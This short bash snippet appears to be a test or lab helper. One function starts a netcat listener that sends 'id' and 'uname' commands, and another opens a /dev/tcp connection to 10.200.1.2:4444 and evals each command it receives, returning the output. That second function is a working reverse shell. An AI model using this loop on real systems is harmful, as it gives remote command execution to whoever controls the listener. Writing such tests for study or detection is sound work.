# bash reads a command, keeps what it writes, and sends that itself.
peers() { (echo id; sleep 0.5; echo uname; sleep 0.5) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() { timeout 5 bash -c 'exec 5<>/dev/tcp/10.200.1.2/4444; while read -r l <&5; do o=$(eval "$l" 2>&1); echo "$o" >&5; done'; }
